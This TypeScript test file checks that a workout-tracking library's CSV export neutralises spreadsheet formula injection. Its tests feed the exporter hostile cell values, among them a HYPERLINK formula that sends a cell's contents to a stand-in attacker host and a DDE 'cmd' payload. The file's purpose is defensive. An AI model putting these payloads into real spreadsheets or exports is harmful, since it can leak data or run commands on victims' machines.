import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createManualClock, createTracker, type ExecutionSpan, type TrackerSnapshot } from 'workout-spans';
import { toCSV, type CsvKind } from 'workout-spans/export';
import { deserialize, serialize } from 'workout-spans/persistence';
import { parseCsv } from '../export/rfc4180';
import { deepSnapshot, NASTY_TEXTS, snapshotArb, T0, textArb } from './io-snapshots';
import { numRuns, seed, timeout } from './runs';

/**
 * Issue 14, spreadsheet formula injection: no text cell of `toCSV` begins with what a spreadsheet
 * runs as a formula, unless it is a plain number; neutralised cells carry a leading `'` inside a
 * quoted field (OWASP), the file stays RFC 4180, numbers stay numbers, and `escapeFormulas: false`
 * writes every cell as recorded.
 */

/** The rule, written here apart from the code: a formula start that is not a plain number. */
// eslint-disable-next-line no-control-regex
const formulaLike = (cell: string): boolean => /^[=+\-@\t\r\n\u0000]/.test(cell) && !/^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/.test(cell);
const neutralised = (text: string): string => (formulaLike(text) ? `'${text}` : text);
const KINDS: CsvKind[] = ['spans', 'segments', 'metrics'];

function column(rows: string[][], name: string): string[] {
  const i = rows[0]!.indexOf(name);
  return rows.slice(1).map((r) => r[i]!);
}

/** A session whose every text is an attack. */
function hostileSession(): TrackerSnapshot {
  const clock = createManualClock(T0);
  const tracker = createTracker({ clock, strict: true });
  tracker.startSpan({ key: 'w', label: '=HYPERLINK("https://evil.example?"&A1,"Fran")', blockType: 'rounds' });
  tracker.startSegment('w', 'round', '@SUM(A1:A9)', 0);
  tracker.startSpan({ key: 'e', label: "-2+3+cmd|' /C calc'!A0", blockType: 'effort' });
  clock.advance(30_000);
  tracker.recordMetric('e', 'reps', 12, 'reps', '+source');
  tracker.recordMetric('e', 'note', '\t=1+1', 'text');
  tracker.recordMetric('e', 'offset', -3, '=unit');
  tracker.recordMetric('e', 'textNumber', '-3', '');
  tracker.recordMetric('e', 'exerciseId', '=evil', '');
  tracker.endSpan('w');
  return deserialize(serialize(tracker));
}

describe('toCSV against formula injection', () => {
  it('neutralises labels, units, sources and text values with a quote inside a quoted field', () => {
    const snapshot = hostileSession();
    const text = toCSV(snapshot, 'spans');
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""Fran"")"`);
    const spans = parseCsv(text);
    expect(column(spans, 'label')).toEqual([`'=HYPERLINK("https://evil.example?"&A1,"Fran")`, `'-2+3+cmd|' /C calc'!A0`]);
    expect(column(spans, 'exerciseId')[1]).toBe(`'=evil`);
    const segments = parseCsv(toCSV(snapshot, 'segments'));
    expect(column(segments, 'label')).toEqual([`'@SUM(A1:A9)`]);
    const metrics = parseCsv(toCSV(snapshot, 'metrics'));
    const byKey = (key: string, col: string): string =>
      metrics.find((r) => r[metrics[0]!.indexOf('key')] === key)![metrics[0]!.indexOf(col)]!;
    expect(byKey('reps', 'source')).toBe(`'+source`);
    expect(byKey('note', 'value')).toBe(`'\t=1+1`);
    expect(byKey('offset', 'unit')).toBe(`'=unit`);
  });

  it('keeps numbers numbers: negative number cells and text that is a plain number are left as they are', () => {
    const snapshot = hostileSession();
    const metrics = parseCsv(toCSV(snapshot, 'metrics'));
    const h = metrics[0]!;
    const value = (key: string): string => metrics.find((r) => r[h.indexOf('key')] === key)![h.indexOf('value')]!;
    expect(value('offset')).toBe('-3');
    expect(value('textNumber')).toBe('-3');
    expect(value('reps')).toBe('12');
    // Numeric columns of a crafted snapshot with negative times stay numbers.
    const base = deepSnapshot(1);
    const early = { ...base, spans: [{ ...base.spans[0]!, startTime: -5_000, endTime: -1_000, status: 'completed' } as ExecutionSpan] };
    const row = parseCsv(toCSV(early, 'spans'));
    expect([column(row, 'startTime')[0], column(row, 'endTime')[0]]).toEqual(['-5000', '-1000']);
    for (const plain of ['-5', '+3.25', '-1e3', '.5', '-0.5E-3']) expect(formulaLike(plain)).toBe(false);
  });

  it('with escapeFormulas: false, writes every cell exactly as recorded', () => {
    const snapshot = hostileSession();
    const spans = parseCsv(toCSV(snapshot, 'spans', { escapeFormulas: false }));
    expect(column(spans, 'label')).toEqual(snapshot.spans.map((s) => s.label));
    const metrics = parseCsv(toCSV(snapshot, 'metrics', { escapeFormulas: false }));
    expect(column(metrics, 'value')).toContain('\t=1+1');
  });

  it('neutralises ids too: a span id that begins with "-" is prefixed unless told otherwise', () => {
    const base = deepSnapshot(1);
    const dashed = { ...base, spans: [{ ...base.spans[0]!, id: '-Ab3_x' }] };
    expect(column(parseCsv(toCSV(dashed, 'spans')), 'id')).toEqual([`'-Ab3_x`]);
    expect(column(parseCsv(toCSV(dashed, 'spans', { escapeFormulas: false })), 'id')).toEqual(['-Ab3_x']);
  });

  it(
    'property: no text cell of any table begins a formula, the file stays strict RFC 4180, and every text reads back',
    () => {
      fc.assert(
        fc.property(snapshotArb, (snapshot) => {
          for (const kind of KINDS) {
            const rows = parseCsv(toCSV(snapshot, kind));
            for (const row of rows.slice(1)) for (const cell of row) expect(formulaLike(cell), JSON.stringify(cell)).toBe(false);
            const raw = parseCsv(toCSV(snapshot, kind, { escapeFormulas: false }));
            expect(raw.length).toBe(rows.length);
          }
          const spans = parseCsv(toCSV(snapshot, 'spans'));
          const raw = parseCsv(toCSV(snapshot, 'spans', { escapeFormulas: false }));
          expect(column(spans, 'label')).toEqual(snapshot.spans.map((s) => neutralised(s.label)));
          expect(column(raw, 'label')).toEqual(snapshot.spans.map((s) => s.label));
        }),
        { numRuns: numRuns(100), ...seed() },
      );
    },
    timeout(),
  );

  it(
    'property: a tracker session with any labels, units and text values, saved and read back, writes no formula',
    () => {
      fc.assert(
        fc.property(fc.array(fc.tuple(textArb, textArb, textArb), { minLength: 1, maxLength: 6 }), (items) => {
          const clock = createManualClock(T0);
          const tracker = createTracker({ clock, onError: () => {} });
          tracker.startSpan({ key: 'root', label: NASTY_TEXTS[0]! });
          items.forEach(([label, unit, value], i) => {
            tracker.startSpan({ key: `k${i}`, label });
            tracker.recordMetric(`k${i}`, 'note', value === '' ? 'x' : value, unit);
            tracker.startSegment(`k${i}`, 'round', label, 0);
            clock.advance(1_000);
            tracker.endSpan(`k${i}`);
          });
          tracker.endSpan('root');
          const snapshot = deserialize(serialize(tracker));
          for (const kind of KINDS) {
            for (const row of parseCsv(toCSV(snapshot, kind)).slice(1)) for (const cell of row) expect(formulaLike(cell)).toBe(false);
          }
        }),
        { numRuns: numRuns(100), ...seed() },
      );
    },
    timeout(),
  );
});
